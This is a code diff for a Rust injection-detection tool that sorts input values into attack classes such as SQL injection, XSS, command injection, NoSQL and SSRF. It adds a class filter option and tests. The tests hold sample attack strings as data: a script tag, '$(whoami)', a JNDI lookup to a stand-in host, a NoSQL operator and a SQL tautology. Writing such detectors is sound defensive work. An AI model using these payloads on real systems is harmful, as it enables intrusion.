@@ -5,10 +5,11 @@ use std::io::{self, BufRead, Write};
 use std::process::ExitCode;
 
 /// How the command is called.
-pub const USAGE: &str = "usage: portcullis scan [--jsonl] [--explain] < VALUES
+pub const USAGE: &str = "usage: portcullis scan [--jsonl] [--explain] [--classes CLASS,...] < VALUES
 
 Reads one value a line, or with --jsonl one object a line with \"id\" and \"payload\", and prints one line each:
-the class of attack (sqli, xss, path, cmdi, other) or none. --explain adds the rule and its score.";
+the class of attack (sqli, xss, path, cmdi, other) or none. --explain adds the rule and its score. --classes looks for
+these only (sqli, xss, path, command, template, nosql, ldap, xxe, ssrf, or all); without it for the first five.";
 
 /// Runs the command on `input`; `args` are what follows `scan`.
 ///
@@ -18,8 +19,17 @@ the class of attack (sqli, xss, path, cmdi, other) or none. --explain adds the r
 /// Those of `input` and `output`.
 pub fn run(args: &[String], input: impl BufRead, mut output: impl Write) -> io::Result<ExitCode> {
     let (mut jsonl, mut explain) = (false, false);
-    for arg in args {
+    let mut classes = ClassSet::USUAL;
+    let mut args = args.iter();
+    while let Some(arg) = args.next() {
         match arg.as_str() {
+            "--classes" => match args.next().and_then(|names| named(names)) {
+                Some(named) => classes = named,
+                None => {
+                    writeln!(output, "--classes needs names of classes\n{USAGE}")?;
+                    return Ok(ExitCode::from(2));
+                }
+            },
             "--jsonl" => jsonl = true,
             "--explain" => explain = true,
             "--help" => {
@@ -42,7 +52,7 @@ pub fn run(args: &[String], input: impl BufRead, mut output: impl Write) -> io::
                 writeln!(output, "line {}: not an object with \"id\" and \"payload\"", number + 1)?;
                 return Ok(ExitCode::from(2));
             };
-            let finding = injection::scan(payload.as_bytes(), ClassSet::ALL);
+            let finding = injection::scan(payload.as_bytes(), classes);
             let mut decision = serde_json::json!({ "id": id, "class": corpus_name(finding.as_ref()) });
             if let (true, Some(finding), Some(members)) = (explain, finding, decision.as_object_mut()) {
                 members.insert("rule".into(), finding.rule.into());
@@ -51,7 +61,7 @@ pub fn run(args: &[String], input: impl BufRead, mut output: impl Write) -> io::
             writeln!(output, "{decision}")?;
         } else {
             let value = line.strip_suffix(b"\r").unwrap_or(&line);
-            let finding = injection::scan(value, ClassSet::ALL);
+            let finding = injection::scan(value, classes);
             write!(output, "{}", corpus_name(finding.as_ref()))?;
             if let (true, Some(finding)) = (explain, finding) {
                 write!(output, "\t{}\t{}", finding.rule, finding.score)?;
@@ -61,6 +71,14 @@ pub fn run(args: &[String], input: impl BufRead, mut output: impl Write) -> io::
     }
     output.flush()?;
     Ok(ExitCode::SUCCESS)
+}
+
+/// The classes of a list of names; None when one is none.
+fn named(names: &str) -> Option<ClassSet> {
+    if names == "all" {
+        return Some(ClassSet::ALL);
+    }
+    names.split(',').map(|name| Class::ALL.into_iter().find(|class| class.name() == name)).collect()
 }
 
 /// The id and the payload of a line of labelled values; the id may be a string or a number.
@@ -99,6 +117,15 @@ mod tests {
     fn prints_a_class_for_every_line() {
         assert_eq!(output_of(&[], "hello\n<script>alert(7)</script>\r\n$(whoami)\n"), "none\nxss\ncmdi\n");
         assert_eq!(output_of(&["--explain"], "${jndi:ldap://evil.example/a}\n"), "other\ttemplate-lookup\t9\n");
+    }
+
+    #[test]
+    fn looks_for_the_classes_that_are_asked_for() {
+        let input = "user[$ne]\nhttp://127.0.0.1/\nx' or 'a'='a\n";
+        assert_eq!(output_of(&[], input), "none\nnone\nsqli\n");
+        assert_eq!(output_of(&["--classes", "nosql,ssrf"], input), "nosql\nssrf\nnone\n");
+        assert_eq!(output_of(&["--classes", "all"], input), "nosql\nssrf\nsqli\n");
+        assert!(output_of(&["--classes", "nosqli"], input).starts_with("--classes needs names of classes\n"));
     }
 
     #[test]
